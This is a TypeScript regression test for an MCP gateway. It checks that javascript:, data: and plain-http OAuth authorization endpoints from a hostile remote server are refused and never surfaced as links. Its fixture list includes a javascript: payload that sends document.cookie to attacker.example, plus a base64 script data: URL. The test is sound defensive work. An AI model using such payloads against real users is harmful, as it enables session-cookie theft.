import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../support/app.js';
import { api, connectMcp, toolError } from '../support/mcp.js';

/**
 * Issue 25, finding 6: a remote MCP server's authorization server published
 * `authorization_endpoint: "javascript:…"` (or `data:…`), and Switchboard handed that link to the
 * console and to MCP clients (URL elicitation, CREDENTIAL_NOT_FOUND details). Now discovery
 * refuses it with a coded error and no link is made of it, whichever way the sign-in starts.
 */
const HOSTILE_ENDPOINTS = {
  javascript: 'javascript:fetch("https://attacker.example/?c="+document.cookie)//',
  data: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  // http to another machine: a link that would carry the user's sign-in in clear.
  'plain http': 'http://attacker.example/authorize',
};

/**
 * A remote MCP server that asks for OAuth as the spec says (401 naming its resource metadata),
 * with an authorization server on the same port whose metadata names `authorizationEndpoint`.
 */
async function startHostileServer(authorizationEndpoint: string): Promise<{ url: string; close(): Promise<void> }> {
  let origin = '';
  const server: Server = createServer((req, res) => {
    const json = (body: unknown) => {
      res.setHeader('content-type', 'application/json');
      res.end(JSON.stringify(body));
    };
    if (req.url === '/mcp') {
      res.statusCode = 401;
      res.setHeader('www-authenticate', `Bearer resource_metadata="${origin}/.well-known/oauth-protected-resource/mcp"`);
      return res.end();
    }
    if (req.url === '/.well-known/oauth-protected-resource/mcp') return json({ resource: `${origin}/mcp`, authorization_servers: [origin] });
    if (req.url === '/.well-known/oauth-authorization-server') {
      return json({
        issuer: origin,
        authorization_endpoint: authorizationEndpoint,
        token_endpoint: `${origin}/token`,
        response_types_supported: ['code'],
        code_challenge_methods_supported: ['S256'],
        client_id_metadata_document_supported: true,
      });
    }
    res.statusCode = 404;
    res.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    url: `${origin}/mcp`,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

let app: TestApp;
let serverId: string;
let accessUrl: string;
const call = (method: string, path: string, body?: unknown) => api(app.apiUrl, app.apiKey, method, path, body);

beforeAll(async () => {
  app = await startTestApp({ env: { RATE_LIMIT_PER_MINUTE: '10000' } });
  const server = await call('POST', '/api/servers', { name: 'hostile authorization servers' });
  serverId = server.body.serverId;
  accessUrl = server.body.accessUrl;
});

afterAll(async () => {
  await app?.close();
});

describe('authorization URLs from a remote authorization server', () => {
  for (const [kind, endpoint] of Object.entries(HOSTILE_ENDPOINTS)) {
    it(`refuses a ${kind} authorization endpoint at discovery, with no link for the console or the agent`, async () => {
      const hostile = await startHostileServer(endpoint);
      try {
        const slug = `hostile-${kind.replace(/\W/g, '-')}`;
        const created = await call('POST', '/api/mcp-connectors', { name: slug, type: 'oauth', url: hostile.url });
        expect(created.status).toBe(201);
        expect((await call('POST', `/api/servers/${serverId}/connectors`, { mcpConnectorId: created.body.id })).status).toBe(200);

        // The console's "Test" button.
        const tested = await call('POST', '/api/mcp-connectors/test', { connectorId: `mcp-${slug}` });
        expect(tested.body).toMatchObject({ ok: false, error: expect.stringContaining(`The authorization endpoint of ${new URL(hostile.url).host} must be an https: URL`) });
        expect(tested.body.authorizationUrl).toBeUndefined();

        // An agent's tool call and create_credential.
        const agent = await connectMcp(accessUrl);
        try {
          const called = await agent.callTool({ name: 'execute_action', arguments: { connectorId: `mcp-${slug}`, actionId: 'anything', parameters: {} } });
          const connect = await agent.callTool({ name: 'create_credential', arguments: { connectorId: `mcp-${slug}`, authenticationType: 'oauth2' } });
          for (const result of [called, connect]) {
            expect(result.isError).toBe(true);
            expect(toolError(result)?.details?.authorizationUrl).toBeUndefined();
            expect(JSON.stringify(result)).not.toContain(endpoint.slice(0, 12));
          }
        } finally {
          await agent.close();
        }
        const attempts = await app.database.db.selectFrom('oauth_attempts').select('authorization_url').where('connector_id', '=', `mcp-${slug}`).execute();
        expect(attempts.filter((attempt) => attempt.authorization_url !== null)).toEqual([]);
      } finally {
        await hostile.close();
      }
    });
  }
});
